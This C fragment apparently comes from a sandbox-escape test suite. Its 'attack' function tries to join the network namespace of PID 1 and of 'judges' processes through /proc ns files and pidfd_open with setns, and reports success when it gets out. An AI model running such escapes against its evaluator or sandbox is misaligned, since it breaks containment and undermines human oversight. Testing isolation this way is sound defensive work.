// SPDX-License-Identifier: GPL-2.0-only OR MIT
#include <sched.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif

static void enter(int fd, ino_t here)
{
	struct stat there;

	if (fd < 0 || setns(fd, CLONE_NEWNET) || stat("/proc/self/ns/net", &there))
		return;
	if (there.st_ino != here)
		success("entered another network");
}

/* Through whoever judges it, or the first process. It only looks: being there is enough. */
static void attack(void)
{
	struct stat here;
	pid_t pids[17] = { 1 };
	int n = 1 + judges(pids + 1, 16);

	if (stat("/proc/self/ns/net", &here))
		return;
	for (int i = 0; i < n; i++) {
		char path[64];

		snprintf(path, sizeof(path), "/proc/%d/ns/net", pids[i]);
		enter(open(path, O_RDONLY), here.st_ino);
		enter(syscall(SYS_pidfd_open, pids[i], 0), here.st_ino);
	}
}
